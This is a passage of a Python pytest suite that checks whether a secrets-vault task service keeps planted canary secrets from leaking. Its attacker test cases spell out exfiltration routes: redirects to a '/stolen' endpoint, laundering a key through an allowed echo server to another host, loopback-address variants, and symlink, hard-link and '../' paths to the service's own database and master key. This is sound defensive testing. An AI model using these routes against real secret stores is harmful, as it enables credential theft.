            http(
                f"{c.echo}/redirect?to={urllib.parse.quote(c.other + '/stolen')}",
                secret_name="stripe_key",
                follow_redirects=True,
            )
        ],
    ),
    refused(
        "policy_redirect_data",
        lambda c: [
            http(
                f"{c.echo}/redirect?to={urllib.parse.quote(c.other + '/stolen')}",
                method="POST",
                json={"k": "$ secrets.stripe_key"},
                follow_redirects=True,
            )
        ],
    ),
    Case(
        "policy_launder_through_allowed_echo",
        lambda c: [
            http(f"{c.echo}/charges", method="POST", json={"k": "$ secrets.stripe_key"}),
            http(f"{c.launder}/collect", method="POST", json={"v": "$ _['json']['body']"}),
        ],
        status=ANY,
        check=check_launder,
    ),
    # a value derived from the key, echoed unmarked by the allowed upstream, sent on to C
    Case(
        "policy_launder_reversed_through_allowed_echo",
        lambda c: [
            http(f"{c.echo}/charges", method="POST", json={"k": "$ secrets.stripe_key[::-1]"}),
            http(f"{c.launder}/from-echo", method="POST", json={"v": "$ _['json']['body']"}),
        ],
        status=ANY,
        check=lambda s, run: check_reached_c(s, "/from-echo", "stripe_key"),
    ),
    # the same through the allowed database, which computes the reverse itself
    Case(
        "policy_launder_reversed_through_allowed_database",
        lambda c: [
            db(c.pg(), "SELECT reverse(%s) AS v", params=["$ secrets.pg_restricted"]),
            http(f"{c.launder}/from-db", method="POST", json={"v": "$ _['rows'][0][0]"}),
        ],
        status=ANY,
        check=lambda s, run: check_reached_c(s, "/from-db", "pg_restricted"),
    ),
    Case(
        "policy_pg_allowed",
        lambda c: [db(c.pg_auth(password="$ secrets.pg_restricted"), "SELECT 1 AS one")],
        check=check_pg_allowed,
    ),
    refused(
        "policy_pg_other_destination",
        lambda c: [
            db({**c.pg(password="$ secrets.pg_restricted"), "port": c.closed}, "SELECT 1 AS one")
        ],
    ),
    refused(
        "policy_pg_secret_to_sqlite",
        lambda c: [db(SQLITE, "SELECT ?", params=["$ secrets.pg_restricted"])],
    ),
    # the allowed database computes on the value it is sent, and answers unmarked
    Case(
        "policy_allowed_database_transforms_value",
        lambda c: [db(c.pg(), "SELECT reverse(%s) AS v", params=["$ secrets.pg_restricted"])],
    ),
    # -- strongroom's own database and files -----------------------------------------------------
    *(
        Case(
            f"own_database_{name}",
            own_database(host),
            status="failed",
            check=check_own_refused,
            backends=("postgres",),
        )
        for name, host in (
            ("127_0_0_1", "127.0.0.1"),
            ("localhost", "localhost"),
            ("127_0_0_2", "127.0.0.2"),
            ("0_0_0_0", "0.0.0.0"),  # noqa: S104 - where a task must not connect
            ("ipv6_loopback", "::1"),
            ("ipv4_mapped", "::ffff:127.0.0.1"),
        )
    ),
    Case(
        "own_database_over_http",
        lambda c: [http(f"http://127.0.0.1:{PG.port or 5432}/")],
        status="failed",
        check=check_own_refused,
        backends=("postgres",),
    ),
    *(
        Case(
            f"own_file_{name}",
            own_file(url),
            status="failed",
            check=check_own_refused,
            backends=backends,
        )
        for name, url, backends in (
            ("symlink", "sqlite:///own-symlink.db", ("sqlite",)),
            ("hard_link", "sqlite:///own-hardlink.db", ("sqlite",)),
            ("engine_hard_link", "sqlite:///engine-hardlink.db", ("sqlite",)),
            ("master_key_hard_link", "sqlite:///key-hardlink.db", BACKENDS),
            ("parent_path", "sqlite:///../../work/data/strongroom.db", ("sqlite",)),
        )
    ),
]
CASES_BY_LABEL = {case.label: case for case in CASES}
assert len(CASES_BY_LABEL) == len(CASES), "labels repeat"

CANCELLED_STEPS: Steps = lambda c: [  # noqa: E731
    chat(c.blocking, "$ 'hold ' + secrets.k"),
    T("$ secrets.k"),
]
FREEZE_STEPS = [
    {"kind": "transform", "expression": "$ lower(secrets.api_key) * 10000"},
    {"kind": "transform", "expression": "$ 1"},
]


# -- the scenario -------------------------------------------------------------------------------
@dataclass
class Run:
    label: str
    id: str
    execution: dict[str, Any]
    steps: list[dict[str, Any]]

    @property
    def status(self) -> str:
        return str(self.execution["status"])

    @property
    def outputs(self) -> list[Any]:
        return [step["output"] for step in self.steps]

    @property
    def error(self) -> dict[str, Any]:
        return dict(self.execution["error"] or {})

    def answers(self) -> bytes:
        return json.dumps({"execution": self.execution, "steps": self.steps}).encode()


@dataclass
class Scenario:
    backend: str
    ctx: Ctx
    values: dict[str, str]
    canaries: list[Canary]
    scanner: Scanner
    echo: Echo
    other: Echo
    launder: Echo
    openai: Upstream
    blocking: Upstream
    auth: Echo
    auth_openai: Upstream
    runs: dict[str, Run] = field(default_factory=dict)
    answers: list[tuple[str, bytes]] = field(default_factory=list)
    places: list[tuple[str, bytes]] = field(default_factory=list)  # logs, databases, files
    statuses: dict[str, int] = field(default_factory=dict)  # named requests -> HTTP status
    audit: list[dict[str, Any]] = field(default_factory=list)
    notes: dict[str, Any] = field(default_factory=dict)  # what else the run saw
    tool_sqlite: bytes = b""

    def find_in(self, data: bytes, label: str) -> list[str]:
        """The forms of canary ``label`` in ``data`` (for the checks that one arrived)."""
        return [str(hit) for hit in self.scanner.scan(data) if hit.label == label]


class Api:
    """An HTTP client of one key that keeps every answer it gets."""

    def __init__(self, base_url: str, key: str, who: str, kept: list[tuple[str, bytes]]) -> None:
        self.client = httpx.Client(
            base_url=base_url, headers={"Authorization": f"Bearer {key}"}, timeout=60
        )
        self.who = who
        self.kept = kept

    def __call__(
        self, method: str, path: str, expect: int | None = None, **kwargs: Any
    ) -> httpx.Response:
        response = self.client.request(method, path, **kwargs)
        headers = "\n".join(f"{k}: {v}" for k, v in response.headers.items())
        label = f"{self.who} {method} {path[:80]} -> {response.status_code}"
        self.kept.append((label, headers.encode() + b"\n\n" + response.content))
        if expect is not None:
            assert response.status_code == expect, f"{label}: {response.text[:500]}"
        return response

    def close(self) -> None:
        self.client.close()


def plant() -> tuple[dict[str, str], list[Canary]]:
    """The tenant's secrets and the canaries to search for (values and their parts)."""
    auth, user, password = basic_auth()
    svc, client_id, client_secret = service_json()
    parts = {
        "hook_path": alpha(32, "Wq", "Zx"),
        "hook_host": alpha(30, "Xz", "Qv").lower(),
        "pg_user": alpha(24, "Qw", "Xv").lower(),
        "pg_db": alpha(24, "Zj", "Wq").lower(),
        "stripe": alpha(40, "Vq", "Jz"),
    }
    values = {
        "k": alpha(40),
        "k2": alpha(57, "Jx", "Qw"),
        "aa_key": alpha(24, "Xv", "Zq"),
        "zz_key": alpha(24, "Wz", "Jj"),
        "basic_auth": auth,
        "svc_json": svc,
        "pin": numeric(18),
        "hex": hexadecimal(32),
        "api_key": alpha(128, "Zw", "Qx"),
        "hook_url": "",  # needs the echo's address: set by the scenario
        "hook_host": f"http://{parts['hook_host']}.invalid:8080/x",
        "db_host": alpha(30, "Jw", "Xq"),
        "pg_url": "",  # needs the relay's port: set by the scenario
        "pg_password": alpha(30, "Qq", "Zv"),
        "stripe_key": f"sk_live_{parts['stripe']}",
        "pg_restricted": alpha(30, "Xw", "Jq"),
    }
    canaries = [
        Canary(name, value)
        for name, value in values.items()
        if name not in ("hook_url", "pg_url", "hook_host", "stripe_key")
    ]
    canaries += [
        Canary("basic_auth.user", user),
        Canary("basic_auth.password", password),
        Canary("svc_json.client_id", client_id),
        Canary("svc_json.client_secret", client_secret),
        Canary("hook_url.path", parts["hook_path"]),
        Canary("hook_host.host", parts["hook_host"]),
        Canary("hook_host", values["hook_host"]),
        Canary("pg_url.user", parts["pg_user"]),
        Canary("pg_url.database", parts["pg_db"]),
        Canary("stripe_key", parts["stripe"]),
        Canary("stripe_key.whole", values["stripe_key"]),
    ]
    values["_hook_path"] = parts["hook_path"]
    values["_pg_user"], values["_pg_db"] = parts["pg_user"], parts["pg_db"]
    return values, canaries


def make_database(name: str) -> str:
    """A new PostgreSQL database on the test server (skips when there is none)."""
    try:
        admin = psycopg.connect(POSTGRES_URL, autocommit=True, connect_timeout=5)
    except psycopg.OperationalError as exc:
        if os.environ.get("CI") == "true":
            pytest.fail(f"PostgreSQL is not reachable at {POSTGRES_URL}: {exc}")
        pytest.skip(f"PostgreSQL is not reachable: {exc}")
    with admin:
        admin.execute(f'CREATE DATABASE "{name}"')
    return f"{POSTGRES_URL.rpartition('/')[0]}/{name}"


def drop_database(name: str) -> None:
    with psycopg.connect(POSTGRES_URL, autocommit=True) as admin:
        admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def files_under(root: Path, label: str) -> list[tuple[str, bytes]]:
    found = []
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            with suppress(OSError):
                found.append((f"file {path.relative_to(root)} ({label})", path.read_bytes()))
    return found


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[str], Scenario]]:
    """The scenario of a backend, played the first time it is asked for, kept to the end."""
    found: dict[str, Scenario] = {}
    with ExitStack() as stack:

        def scenario_of(backend: str) -> Scenario:
            if backend not in found:
                found[backend] = stack.enter_context(_scenario(backend, tmp_path_factory))
            return found[backend]

        yield scenario_of


@pytest.fixture(scope="module", params=BACKENDS)
def scenario(request: pytest.FixtureRequest, played: Callable[[str], Scenario]) -> Scenario:
    return played(str(request.param))


@contextmanager
def _scenario(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scenario]:
    root = tmp_path_factory.mktemp(f"containment-{backend}")
    workdir, tooldir = root / "work", root / "tools"
    (workdir / "data").mkdir(parents=True)
    (workdir / "tmp").mkdir()
    (tooldir / "default").mkdir(parents=True)
    suffix = f"{os.getpid()}_{random.token_hex(3)}"
    created: list[str] = []
    tool_db = f"strongroom_containment_tools_{suffix}"
    tool_url = make_database(tool_db)
    created.append(tool_db)
    own_db = ""
    if backend == "sqlite":
        database_url = f"sqlite:///{workdir / 'data' / 'strongroom.db'}"
    else:
        own_db = f"strongroom_containment_{suffix}"
        database_url = make_database(own_db)
        created.append(own_db)
    with psycopg.connect(tool_url, autocommit=True) as conn:
        conn.execute("CREATE TABLE t (tag text, v text)")
    relay = TcpRelay((PG.hostname or "127.0.0.1", PG.port or 5432))
    auth_relay = TcpRelay((PG.hostname or "127.0.0.1", PG.port or 5432))
    key_file = workdir / "data" / "master.key"
    key_file.write_text(MASTER_KEY)
    key_file.chmod(0o600)

    values, canaries = plant()
    controls = [Canary(f"control_{i}", alpha(40)) for i in range(3)]
    with (
        echo_upstream() as echo,
        echo_upstream() as other,
        echo_upstream() as launder,
        echo_upstream() as auth,
        openai_upstream() as fake_openai,
        openai_upstream() as auth_openai,
        openai_upstream() as blocking,
    ):
        values["hook_url"] = f"{echo.base_url}/hook/{values['_hook_path']}"
        values["pg_url"] = (
            f"postgresql://{values['_pg_user']}@127.0.0.1:{relay.port}/{values['_pg_db']}"
        )
        canaries.append(Canary("hook_url", values["hook_url"]))
        canaries.append(Canary("pg_url", values["pg_url"]))
        ctx = Ctx(
            echo=echo.base_url,
            other=other.base_url,
            launder=launder.base_url,
            openai=fake_openai.base_url,
            blocking=at(blocking, "blocking"),
            relay_port=relay.port,
            tool_db=tool_db,
            closed=closed_port(),
            own_db=own_db,
            auth=auth.base_url,
            auth_openai=auth_openai.base_url,
            auth_relay_port=auth_relay.port,
        )
        found = Scenario(
            backend,
            ctx,
            values,
            canaries,
            Scanner(canaries),
            echo,
            other,
            launder,
            fake_openai,
            blocking,
            auth,
            auth_openai,
        )
        found.notes["controls"] = controls
        try:
            _play(found, database_url, workdir, tooldir, key_file)
        finally:
            relay.close()
            auth_relay.close()
            for name in created:
                drop_database(name)
        yield found


def _issue_keys(database_url: str) -> dict[str, str]:
    services = open_services(Settings(database_url=database_url, master_key=SecretStr(MASTER_KEY)))
    try:
        return {
            who: create_api_key(services.store, services.barrier, "default", scopes=scopes)[0]
            for who, scopes in (
                ("attacker", ("tasks:run",)),
                ("admin", ("*",)),
                ("auditor", ("audit:read",)),
            )
        }
    finally:
        services.store.close()


def _prepare_tool_files(tooldir: Path, workdir: Path, key_file: Path, backend: str) -> None:
    home = tooldir / "default"
    with sqlite3.connect(home / "rt.db") as conn:
        conn.execute("CREATE TABLE t (tag text, v text)")
    conn.close()
    os.link(key_file, home / "key-hardlink.db")
    if backend == "sqlite":
        own = workdir / "data" / "strongroom.db"
        (home / "own-symlink.db").symlink_to(own)
        os.link(own, home / "own-hardlink.db")
        os.link(f"{own}.dbos.sqlite", home / "engine-hardlink.db")


def _play(s: Scenario, database_url: str, workdir: Path, tooldir: Path, key_file: Path) -> None:
    keys = _issue_keys(database_url)
    env = {
        "HOME": str(workdir),
        "TMPDIR": str(workdir / "tmp"),
        "STRONGROOM_DATABASE_URL": database_url,
        "STRONGROOM_MASTER_KEY_FILE": str(key_file),
        "STRONGROOM_EGRESS_ALLOW": "127.0.0.1,localhost",
        "STRONGROOM_OPENAI_BASE_URL": s.ctx.openai,
        "STRONGROOM_TOOL_SQLITE_DIR": str(tooldir),
        "STRONGROOM_TASK_MAX_STEPS": str(MAX_STEPS),
        "STRONGROOM_TASK_MAX_EXECUTION_BYTES": str(MAX_EXECUTION_BYTES),
        "STRONGROOM_TASK_CONCURRENCY": "8",
        "STRONGROOM_TASK_CONCURRENCY_PER_TENANT": "8",
        "STRONGROOM_RATE_LIMIT_PER_KEY": "off",
        "STRONGROOM_RATE_LIMIT_PER_ADDRESS": "off",
        "STRONGROOM_LOG_LEVEL": "DEBUG",
    }
    server = start_server(workdir, env)
    _prepare_tool_files(tooldir, workdir, key_file, s.backend)
    attacker = Api(server.base_url, keys["attacker"], "attacker", s.answers)
    admin = Api(server.base_url, keys["admin"], "admin", s.answers)
    auditor = Api(server.base_url, keys["auditor"], "auditor", s.answers)
    try:
        _secrets(s, admin)
        _tasks(s, attacker, server)
        _reads(s, attacker, admin, auditor)
        s.places += files_under(workdir, "server running")
        if s.backend == "postgres":
            s.places.append(("database rows (server running)", postgres_rows(database_url)))
    finally:
        for api in (attacker, admin, auditor):
            api.close()
        status = server.stop()
    assert status in (0, -signal.SIGTERM), server.log()
    s.places.append(("server log", server.log_path.read_bytes()))
    s.places.append(("server stdout", server.stdout_path.read_bytes()))
    s.places += files_under(workdir, "server stopped")
    if s.backend == "postgres":
        s.places.append(("database rows", postgres_rows(database_url)))
    s.tool_sqlite = (tooldir / "default" / "rt.db").read_bytes()


def _secrets(s: Scenario, admin: Api) -> None:
    policies = {
        "stripe_key": {
            "readable": False,
            "allowed_destinations": [f"127.0.0.1:{s.echo.port}", f"127.0.0.1:{s.auth.port}"],
            "allowed_tools": ["http/request"],
        },
        "pg_restricted": {
            "readable": False,
            "allowed_destinations": [
                f"127.0.0.1:{s.ctx.relay_port}",
                f"127.0.0.1:{s.ctx.auth_relay_port}",
            ],
            "allowed_tools": ["database/query"],
        },
    }
    for name, value in s.values.items():
        if name.startswith("_"):
            continue
        body: dict[str, Any] = {"name": name, "value": value}
        if name in policies:
            body["policy"] = policies[name]
        admin("POST", "/v1/secrets", 201, json=body)


def _create(api: Api, steps: list[dict[str, Any]], name: str) -> str:
    task = api("POST", "/v1/tasks", 201, json={"task": {"name": name, "steps": steps}}).json()
    return str(task["id"])


def _execute(api: Api, task_id: str) -> str:
    return str(api("POST", f"/v1/tasks/{task_id}/executions", 201, json={}).json()["id"])


def _wait_all(api: Api, ids: dict[str, str]) -> dict[str, dict[str, Any]]:
    """Every execution once it has ended (those that do not end in time stay as last seen)."""
    last: dict[str, dict[str, Any]] = {}
    pending = dict(ids)

    def poll() -> bool:
        for label, execution_id in list(pending.items()):
            found = api("GET", f"/v1/executions/{execution_id}", 200).json()
            last[label] = found
            if found["status"] in ENDED:
                del pending[label]
        return not pending

    with suppress(AssertionError):
        wait_until(poll, "every execution ends", DEADLINE)
    return last


def _collect(s: Scenario, api: Api, label: str, execution: dict[str, Any]) -> None:
    steps = api("GET", f"/v1/executions/{execution['id']}/steps", 200).json()["items"]
    s.runs[label] = Run(label, execution["id"], execution, steps)


def _tasks(s: Scenario, attacker: Api, server: ServerProcess) -> None:
    # the cancelled run: its first step blocks at the upstream until released
    cancel_task = _create(attacker, CANCELLED_STEPS(s.ctx), "cancelled")
    cancelled = _execute(attacker, cancel_task)
    assert s.blocking.arrived.wait(DEADLINE), "the blocking step never arrived"
    running = attacker("GET", f"/v1/executions/{cancelled}", 200).json()
    s.notes["cancel_running_status"] = running["status"]
    s.notes["cancel_answer"] = attacker("POST", f"/v1/executions/{cancelled}/cancel").json()
    s.blocking.release.set()

    cases = [case for case in CASES if s.backend in case.backends]
    for phase in (1, 2):
        ids = {
            case.label: _execute(attacker, _create(attacker, case.steps(s.ctx), case.label))
            for case in cases
            if case.phase == phase
        }
        for label, execution in _wait_all(attacker, ids).items():
            _collect(s, attacker, label, execution)

    wait_until(
        lambda: any(
            b'"execution finished"' in line and cancelled.encode() in line
            for line in server.log_path.read_bytes().splitlines()
        ),
        "the cancelled run ends",
        DEADLINE,
    )
    _collect(s, attacker, "cancelled", attacker("GET", f"/v1/executions/{cancelled}", 200).json())

    # the freeze task: it must end quickly, and the API must answer meanwhile
    freeze_task = _create(attacker, FREEZE_STEPS, "freeze")
    health: list[tuple[int, float]] = []
    stop = threading.Event()

    def ping() -> None:
        with httpx.Client(base_url=server.base_url, timeout=10) as client:
            while not stop.is_set():
                started = time.monotonic()
                try:
                    status = client.get("/healthz").status_code
                except httpx.HTTPError:
                    status = 0
                health.append((status, time.monotonic() - started))
                stop.wait(0.05)

    pinger = threading.Thread(target=ping, daemon=True)
    pinger.start()
    started = time.monotonic()
    freeze = _execute(attacker, freeze_task)
    ended = _wait_all(attacker, {"freeze": freeze})
    s.notes["seconds"] = time.monotonic() - started
    wait_until(lambda: len(health) >= 3, "three health checks", DEADLINE)
    stop.set()
    pinger.join(15)
    s.notes["health"] = list(health)
    _collect(s, attacker, "freeze", ended["freeze"])

    # a task with more steps than allowed is refused when it is created
    too_many = [T("$ 1")] * (MAX_STEPS + 1)
    refused = attacker("POST", "/v1/tasks", json={"task": {"steps": too_many}})
    s.statuses["too_many_steps"] = refused.status_code
    s.notes["too_many_steps"] = refused.json()


def _reads(s: Scenario, attacker: Api, admin: Api, auditor: Api) -> None:
    for who, api in (("attacker", attacker), ("admin", admin)):
        for name in ("stripe_key", "pg_restricted"):
            s.statuses[f"{who} GET {name}"] = api("GET", f"/v1/secrets/{name}").status_code
            versioned = api("GET", f"/v1/secrets/{name}", params={"version": 1})
            s.statuses[f"{who} GET {name}?version=1"] = versioned.status_code
    s.statuses["attacker GET k"] = attacker("GET", "/v1/secrets/k").status_code
    s.statuses["attacker list secrets"] = attacker("GET", "/v1/secrets").status_code
    attacker("GET", "/v1/executions", 200, params={"limit": 1000})
    tasks = attacker("GET", "/v1/tasks", 200, params={"limit": 1000}).json()["items"]
    for task in tasks[:20]:
        attacker("GET", f"/v1/tasks/{task['id']}", 200)
        attacker("GET", "/v1/executions", 200, params={"task_id": task["id"]})
    offset = 0
    while True:
        page = auditor("GET", "/v1/audit", 200, params={"limit": 1000, "offset": offset}).json()
        s.audit += page["items"]
        offset += len(page["items"])
        if not page["has_more"]:
            break
    admin("GET", "/v1/secrets", 200, params={"limit": 1000})


def _marked(value: Any) -> frozenset[str] | None:
    if isinstance(value, str) and value.startswith("[REDACTED:") and value.endswith("]"):
        return frozenset(value[len("[REDACTED:") : -1].split(","))
    return None


def shows(actual: Any, expected: Any) -> bool:
    """``actual`` is ``expected``, where a marker may name more secrets than expected (a
    place that once was sent another secret as data marks its answers with it too)."""
    want, got = _marked(expected), _marked(actual)
    if want is not None and got is not None:
        return want <= got
    if isinstance(expected, dict) and isinstance(actual, dict):
        return expected.keys() == actual.keys() and all(
            shows(actual[key], item) for key, item in expected.items()
        )
    if isinstance(expected, list) and isinstance(actual, list):
        return len(expected) == len(actual) and all(map(shows, actual, expected))
    return bool(actual == expected)


# -- the tests ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("backend", "label"),
    [
        pytest.param(backend, label, id=f"{backend}-{label}")
        for backend in BACKENDS
        for label, case in CASES_BY_LABEL.items()
        if backend in case.backends
    ],
)
def test_case(played: Callable[[str], Scenario], backend: str, label: str) -> None:
    """Each case ends as it must, shows what it must, and no answer about it holds any form
    of any canary."""
    scenario = played(backend)
    case = CASES_BY_LABEL[label]
    if label.startswith("own_database_") and PG.hostname not in ("127.0.0.1", "localhost"):
        pytest.skip("the test's PostgreSQL server is not on this machine")
    run = scenario.runs.get(label)
    assert run is not None, f"{label} was not run"
    leaks = scenario.scanner.findings([(f"{label} answers", run.answers())])
    assert leaks == [], "\n".join(leaks)
    if case.status != ANY:
        assert run.status == case.status, (run.status, run.error, run.outputs)
    if case.error is not None:
        step, code, message = case.error
        assert (run.error.get("step"), run.error.get("code")) == (step, code), run.error
        if isinstance(message, re.Pattern):
            assert message.fullmatch(run.error["message"]), run.error["message"]
        elif message is not None:
            assert run.error["message"] == message
        assert run.steps[-1]["index"] == step
        assert run.steps[-1]["status"] == "failed"
        assert run.steps[-1]["error"] == {"code": code, "message": run.error["message"]}
    if case.outputs is not None:
        for index, expected in enumerate(case.outputs):
            if expected != ANY:
                assert shows(run.outputs[index], expected), (index, run.outputs)
    if run.status == "succeeded":
        assert [step["status"] for step in run.steps] == ["succeeded"] * len(run.steps)
        assert run.execution["output"] == run.outputs[-1]
    if case.check is not None:
        case.check(scenario, run)


SURFACES = {
    "answers": lambda place: True,
    "server log and output": lambda place: place in ("server log", "server stdout"),
    "database": lambda place: place.startswith("database rows") or "strongroom.db" in place,
    "other files": lambda place: place.startswith("file ") and "strongroom.db" not in place,
}


@pytest.mark.parametrize("surface", list(SURFACES))
def test_the_scan_finds_no_canary(scenario: Scenario, surface: str) -> None:
    """No answer the attacker got, no log line, no database byte (strongroom's and the
    engine's, journals included) and no other file holds any form of any canary."""
    s = scenario
    if surface == "answers":
        places = s.answers
        assert len(places) > 3 * len(s.runs)
    else:
        places = [(place, data) for place, data in s.places if SURFACES[surface](place)]
        assert places, surface
    leaks = s.scanner.findings(places)
    assert leaks == [], f"{len(leaks)} forms of canaries found:\n" + "\n".join(leaks[:100])


def test_the_scan_had_something_to_find(scenario: Scenario) -> None:
    """The scenario did its work, so a clean scan means something: the upstreams got the
    secrets where they were sent, the databases hold the runs, the scanner finds what is
    there and nothing that is not."""
    s = scenario
    assert s.find_in(s.echo.raw(), "k"), "the echo never received k"
    assert s.find_in(s.echo.raw(), "stripe_key"), "the allowed upstream never received the key"
    assert s.find_in(s.echo.raw(), "hook_url.path"), "the webhook was never called"
    assert s.find_in(b"\n".join(json.dumps(r.body).encode() for r in s.openai.seen), "k")
    assert s.find_in(s.tool_sqlite, "k"), "the tool database holds no value written by a task"
    places = [*s.answers, *s.places]
    with_controls = Scanner([*s.canaries, *s.notes["controls"]])
    invented = [hit for hit in with_controls.findings(places) if "control_" in hit.split(" as ")[0]]
    assert invented == [], "the scanner finds what was never there"
    log = dict(s.places)["server log"]
    assert log.count(b'"step succeeded"') >= 50
    assert b'"step failed"' in log
    stored = b"".join(data for place, data in s.places if "strongroom.db" in place)
    if s.backend == "postgres":
        stored = dict(s.places)["database rows"]
    else:
        assert any(".dbos.sqlite" in place for place, _ in s.places)
        assert any("strongroom.db-wal (server running)" in place for place, _ in s.places)
    for label in ("http_body", "error_int", "cancelled"):
        assert s.runs[label].id.encode() in stored, f"{label} is not in the database"
    reads = [e for e in s.audit if (e["action"], e["outcome"]) == ("secret.read", "success")]
    assert {e["secret_name"] for e in reads} >= {"k", "stripe_key", "basic_auth", "pin", "hex"}


def test_the_key_never_reached_a_destination_its_policy_does_not_list(scenario: Scenario) -> None:
    s = scenario
    assert s.other.seen == [], [r.path for r in s.other.seen]
    reached = [
        f"{request.path}: {hit}"
        for request in s.launder.seen
        for label in ("stripe_key", "pg_restricted")
        for hit in s.find_in(request.path.encode() + b" " + request.body, label)
    ]
    assert reached == [], "destination-bound secrets reached C:\n" + "\n".join(reached)
    assert not any(s.find_in(json.dumps(r.body).encode(), "stripe_key") for r in [*s.openai.seen])
    assert not s.find_in(s.tool_sqlite, "stripe_key")
    assert not s.find_in(s.tool_sqlite, "pg_restricted")
    # the redirect was asked for at the allowed upstream, and followed no further
    assert sum(r.path.startswith("/redirect") for r in s.echo.seen) == 2


def test_a_use_only_secret_is_read_by_no_key(scenario: Scenario) -> None:
    s = scenario.statuses
    for who in ("attacker", "admin"):
        for name in ("stripe_key", "pg_restricted"):
            assert s[f"{who} GET {name}"] == 403
            assert s[f"{who} GET {name}?version=1"] == 403
    assert s["attacker GET k"] == 403
    assert s["attacker list secrets"] == 403


def test_refused_uses_are_audited_as_forbidden(scenario: Scenario) -> None:
    refusals = [
        label
        for label, case in CASES_BY_LABEL.items()
        if case.error is not None
        and case.error[1] == "policy_refused"
        and scenario.backend in case.backends
    ]
    uses = [e for e in scenario.audit if e["action"] == "secret.use"]
    assert uses, "no secret.use record"
    assert {e["outcome"] for e in uses} == {"forbidden"}
    for label in refusals:
        run = scenario.runs[label]
        assert any(run.id in (e.get("detail") or "") for e in uses), f"{label} not audited"
        assert "stripe_key" in run.error["message"] or "pg_restricted" in run.error["message"]


def test_the_cancelled_run_keeps_its_first_step_and_runs_no_other(scenario: Scenario) -> None:
    s = scenario
    assert s.notes["cancel_running_status"] == "running"
    assert s.notes["cancel_answer"]["status"] == "cancelled"
    run = s.runs["cancelled"]
    assert run.status == "cancelled"
    assert [step["index"] for step in run.steps] == [0]
    assert run.outputs == [marker("k")]
    assert s.find_in(json.dumps([r.body for r in s.blocking.seen]).encode(), "k")
    assert s.scanner.findings([("cancelled", run.answers())]) == []


def test_the_freeze_task_ends_at_once_and_the_api_stays_up(scenario: Scenario) -> None:
    s = scenario
    run = s.runs["freeze"]
    assert run.status == "failed", run.execution
    assert run.error["code"] == "expression_error"
    assert run.error["message"] == withheld(0, "api_key")
    assert [step["index"] for step in run.steps] == [0]
    assert s.notes["seconds"] < 15, s.notes["seconds"]
    health = s.notes["health"]
    assert {status for status, _ in health} == {200}, health
    assert max(seconds for _, seconds in health) < 2.0, health


def test_too_many_steps_are_refused_when_the_task_is_created(scenario: Scenario) -> None:
    assert scenario.statuses["too_many_steps"] == 422
    assert scenario.notes["too_many_steps"]["error"]["code"] == "validation_error"


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("result_over_cap_k", "result_over_cap_k2"),
        ("execution_over_cap_k", "execution_over_cap_k2"),
    ],
)
def test_a_cap_refusal_says_nothing_of_the_value(
    scenario: Scenario, first: str, second: str
) -> None:
    """The same task over two secrets of different lengths fails with the same message:
    a byte count in it would measure the secret (its length, or what ``replace`` or a
    conditional made of it)."""
    one, other = scenario.runs[first], scenario.runs[second]
    assert (one.status, other.status) == ("failed", "failed")
    normalized = [
        run.error["message"].replace("k2", "K").replace("(k)", "(K)") for run in (one, other)
    ]
    if normalized[0] != normalized[1]:
        numbers = [re.findall(r"\d+", message) for message in normalized]
        pytest.fail(
            "the refusal depends on the secret's value: "
            f"{normalized[0]!r} against {normalized[1]!r} (numbers {numbers})"
        )


def test_a_cap_refusal_gives_no_character_away(scenario: Scenario) -> None:
    run = scenario.runs["result_over_cap_by_a_character"]
    assert run.error.get("code") == "result_too_large", run.error
    given = char_from(run.error["message"])
    assert given is None, (
        f"the refusal {run.error['message']!r} gives away the secret's sixth character "
        f"{given!r} (it is {scenario.values['k'][5]!r})"
    )


# -- the scanner itself --------------------------------------------------------------------
def test_the_scanner_finds_every_form_and_nothing_else() -> None:
    """Each form of a canary is found inside other text and encodings; random bytes, base64
    of random bytes and the project's own text hold none."""
    k, pin, hexa = alpha(40), numeric(18), hexadecimal(32)
    scanner = Scanner([Canary("k", k), Canary("pin", pin), Canary("hex", hexa)])
    samples = {
        "lower slice": f'{{"v": "{k.lower()[5:10]}"}}',
        "reversed": f"x {k[::-1]} y",
        "upper stride": f"<{k[1::2].upper()}>",
        "padded": f"{k:>60}|",
        "repr": repr(k),
        "url": urllib.parse.urlencode({"a": f"u:{k}"}),
        "json twice": json.dumps(json.dumps({"a": k})),
        "pin+1": f"n={int(pin) + 1};",
        "pin grouped": f"{int(pin) + 1:,}",
        "hex int": f"[{int(hexa, 16)}]",
        "hex octal": f"{int(hexa, 16):o}",
        "hex upper": hexa.upper(),
    }
    for name, text in samples.items():
        assert scanner.scan(text.encode()), name
    for shift in range(3):
        raw = b"u" * shift + f"user:{k}".encode() + b"tail"
        assert scanner.scan(base64.b64encode(raw)), shift
        assert scanner.scan(base64.urlsafe_b64encode(raw)), shift
        assert scanner.scan(raw.hex().encode()), shift
    noise = os.urandom(2_000_000)
    assert scanner.scan(noise) == []
    assert scanner.scan(base64.b64encode(noise)) == []
    here = Path(__file__).read_bytes() + Path(__file__).with_name("canaries.py").read_bytes()
    assert scanner.scan(here) == []
